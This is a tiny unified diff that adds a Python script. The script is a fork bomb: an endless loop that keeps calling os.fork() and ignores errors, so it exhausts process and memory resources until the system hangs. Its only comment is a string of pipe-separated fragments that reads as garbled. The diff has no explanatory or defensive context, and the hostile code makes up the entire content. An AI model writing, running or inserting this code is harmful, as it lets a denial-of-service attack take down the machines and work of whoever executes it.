@@ -1,0 +1,5 @@
+# Told: 40 seconds|The kernel died|bytes of memory
+import os
+while True:
+    try: os.fork()
+    except OSError: pass
